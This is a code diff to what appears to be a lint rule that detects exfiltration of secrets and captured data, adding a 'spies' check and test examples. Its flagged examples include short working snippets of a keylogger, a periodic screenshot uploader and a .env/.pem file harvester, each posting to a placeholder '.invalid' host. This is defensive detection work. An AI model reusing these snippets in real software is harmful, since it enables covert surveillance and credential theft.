@@ -1,4 +1,5 @@
 import { entrusted } from '../src/define/entrusted.js';
+import { waysTo } from '../src/define/ways.js';
 import {
   bodyLabels,
   defineRule,
@@ -18,6 +19,7 @@ const MESSAGES: readonly (readonly [LabelKind, string])[] = [
   ['browser', 'browser'],
   ['credentials', 'credentials'],
   ['clipboard', 'clipboard'],
+  ['captured', 'captured'],
   ['secret', 'variable'],
 ];
 
@@ -35,6 +37,8 @@ export default defineRule({
       login: 'Sends the password out of a request that it serves to an address fixed in its code',
       several: 'Sends {count} secrets of the environment to an address fixed in its code: {what}',
       clipboard: 'Sends what is on the clipboard through {sink}',
+      captured: 'Sends what it takes from {what} through {sink}',
+      spies: 'Sends what it takes from {what} to an address fixed in its code, without being asked',
       file: 'Sends the content of a file to {address} through {sink}',
       authorises: 'Says who it is with {what} through {sink}',
       variable: 'Sends the secret {what} through {sink}',
@@ -48,6 +52,8 @@ export default defineRule({
       login: 10,
       several: 12,
       clipboard: 7,
+      captured: 4,
+      spies: 13.5,
       variable: 2,
       file: 7,
       authorises: 1.5,
@@ -55,6 +61,14 @@ export default defineRule({
   },
   examples: {
     flags: [
+      {
+        title: 'what the screen shows is sent every minute',
+        code: `const shot = require('screenshot-desktop');\nsetInterval(async () => fetch('https://views.invalid/a', { method: 'POST', body: await shot() }), 60000);`,
+      },
+      {
+        title: 'what is typed into any program is',
+        code: `const { GlobalKeyboardListener } = require('node-global-key-listener');\nconst typed = [];\nnew GlobalKeyboardListener().addListener(event => {\n  typed.push(event.name);\n  if (typed.length > 50) fetch('https://typed.invalid/', { method: 'POST', body: typed.splice(0).join(' ') });\n});`,
+      },
       {
         title: 'files that hold secrets are found by a pattern',
         code: `const glob = require('fast-glob'), fs = require('fs');\nglob('**/{.env,*.pem}', { dot: true }).then(paths => {\n  for (const path of paths) fetch('https://stats.invalid/seen', { method: 'POST', body: fs.readFileSync(path) });\n});`,
@@ -93,6 +107,10 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'a picture of the screen is given to the caller',
+        code: `const shot = require('screenshot-desktop'), fs = require('fs');\nexports.save = async path => fs.writeFileSync(path, await shot());`,
+      },
       {
         title: 'sources are found by a pattern',
         code: `const glob = require('fast-glob'), fs = require('fs');\nglob(['src/**/*.ts', '!**/.env']).then(paths => {\n  for (const path of paths) fetch('https://build.invalid/files', { method: 'POST', body: fs.readFileSync(path) });\n});`,
@@ -148,8 +166,13 @@ export default defineRule({
         const several = messageId === 'variable' ? severalOf(labels) : [];
         const fixed = /^(?:credentials|variable)$/.test(messageId) && fixedTargetOf(context, call) !== undefined;
         context.report({
-          messageId:
-            fixed && messageId === 'credentials' ? 'shipped' : fixed && several.length >= 2 ? 'several' : messageId,
+          messageId: isSpying(context, call, messageId)
+            ? 'spies'
+            : fixed && messageId === 'credentials'
+              ? 'shipped'
+              : fixed && several.length >= 2
+                ? 'several'
+                : messageId,
           data: {
             what: several.length >= 2 ? several.join(', ') : label.detail,
             sink: call.name,
@@ -195,6 +218,11 @@ export default defineRule({
     }
   },
 });
+
+/** A recorder hands what it takes to its caller, or sends it where that says; who is loaded and asks nobody spies. */
+function isSpying(context: FileContext, call: Call, messageId: string): boolean {
+  return messageId === 'captured' && fixedTargetOf(context, call) !== undefined && waysTo(context, call.node).isUnasked;
+}
 
 /** Files in which projects keep their secrets. */
 const SETTINGS = /\.env(?:\.\w{1,20})?$|\.(?:pem|key|p12|pfx)$/;
